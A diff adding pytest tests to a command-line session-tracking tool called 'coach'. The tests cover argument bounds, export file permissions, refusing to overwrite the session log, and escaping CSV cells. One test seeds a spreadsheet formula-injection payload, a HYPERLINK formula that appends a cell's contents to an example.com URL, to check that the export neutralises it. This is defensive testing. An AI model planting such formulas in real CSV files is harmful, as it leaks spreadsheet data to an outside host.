@@ -111,6 +111,32 @@ def test_log_of_an_empty_log_and_a_bad_date(capsys: pytest.CaptureFixture[str]) 
     assert "is not a date like 2026-12-01" in capsys.readouterr().err
 
 
+@pytest.mark.parametrize(
+    ("args", "said"),
+    [
+        (["log", "--limit", "9" * 20], "is more than 1000000"),
+        (["stats", "--weeks", "27"], "is more than 26"),
+    ],
+)
+def test_counts_past_their_bound_are_one_line(
+    args: list[str], said: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """--limit 99999999999999999999 ended in a traceback (too large for SQLite); --weeks 52
+    listed 26 weeks without a word."""
+    seed([make(local(TODAY))])
+    with pytest.raises(SystemExit) as stopped:
+        main(args)
+    assert stopped.value.code == 2
+    [*_, line] = capsys.readouterr().err.splitlines()
+    assert said in line and "Traceback" not in line
+
+
+def test_stats_of_one_session_says_one_session(capsys: pytest.CaptureFixture[str]) -> None:
+    seed([make(local(TODAY))])
+    assert main(["stats"]) == 0
+    assert "all time: 1 session, 1 completed, 10m" in capsys.readouterr().out
+
+
 def test_a_damaged_log_is_one_line_on_stderr_then_it_works(
     coach_home: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
@@ -204,6 +230,30 @@ def test_export_json_to_a_private_file(tmp_path: Path, capsys: pytest.CaptureFix
     assert set(rows[0]) == set(EXPORT_FIELDS)
     if os.name != "nt":
         assert stat.S_IMODE(target.stat().st_mode) == 0o600
+
+
+def test_export_of_one_session_says_one_session(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    seed([make(local(TODAY))])
+    target = tmp_path / "one.csv"
+    assert main(["export", "--output", str(target)]) == 0
+    assert capsys.readouterr().err.strip() == f"coach: wrote 1 session to {target}"
+
+
+@pytest.mark.skipif(os.name == "nt", reason="POSIX modes")
+def test_export_over_a_file_others_can_read_makes_it_private(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """An old export, or a file made by hand, kept its 0644 when the sessions were written
+    into it: health data that others on the machine could read."""
+    seed([make(local(TODAY))])
+    target = tmp_path / "old.csv"
+    target.write_text("old\n")
+    target.chmod(0o644)
+    assert main(["export", "--output", str(target)]) == 0
+    assert stat.S_IMODE(target.stat().st_mode) == 0o600
+    assert target.read_text(encoding="utf-8").startswith("id,routine_id,")
 
 
 def test_export_to_a_folder_that_is_not_there_is_one_line(
@@ -308,3 +358,50 @@ def test_a_routine_killed_mid_way_is_interrupted_with_its_progress(coach_home: P
     exported = run_coach("export", "--format", "json")
     assert [row["status"] for row in json.loads(exported.stdout)] == ["interrupted"]
     assert "streak: 0 days" in run_coach("stats").stdout
+
+
+def test_export_onto_the_log_itself_is_refused(
+    coach_home: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """`coach export -o` with the log's own path (a slip of the tab key) truncated the log
+    and wrote CSV into it: the next command moved it aside as damaged, every session gone."""
+    seed([make(local(TODAY)), make(local(TODAY, 9))])
+    log_path = coach_home / "data" / "log.sqlite3"
+    before = log_path.read_bytes()
+    link = coach_home / "export.csv"
+    link.symlink_to(log_path)
+    for target in (log_path, link, Path(str(log_path) + "-wal")):
+        assert main(["export", "--output", str(target)]) == 1
+        [line] = capsys.readouterr().err.splitlines()
+        assert line == f"coach: cannot write {target}: it is the session log itself", line
+    assert log_path.read_bytes() == before
+    assert main(["log"]) == 0
+    assert len(capsys.readouterr().out.splitlines()) == 2
+
+
+def test_export_csv_keeps_spreadsheets_from_running_text_as_formulas(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """A routine file is shared and downloaded; its name goes into the log and the export.
+    A name like =HYPERLINK(...) became a live formula in the spreadsheet that opened the
+    CSV. Text that a spreadsheet would run starts with ' (as OWASP advises); numbers stay."""
+    name = '=HYPERLINK("http://example.com/?"&A1,"Neck")'
+    noted = replace(
+        make(local(TODAY), routine="=cmd"),
+        routine_name=name,
+        note="+1 better; @SUM(1)",
+        skipped_steps=("-Plank",),
+        steps_skipped=1,
+        utc_offset_minutes=-300,
+    )
+    seed([noted])
+    assert main(["export"]) == 0
+    [row] = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert row["routine_id"] == "'=cmd"
+    assert row["routine_name"] == "'" + name
+    assert row["note"] == "'+1 better; @SUM(1)"
+    assert row["skipped_steps"] == "'-Plank"
+    assert row["utc_offset_minutes"] == "-300"
+    assert main(["export", "--format", "json"]) == 0  # JSON is data, not a sheet: as is
+    [item] = json.loads(capsys.readouterr().out)
+    assert item["routine_name"] == name and item["utc_offset_minutes"] == -300
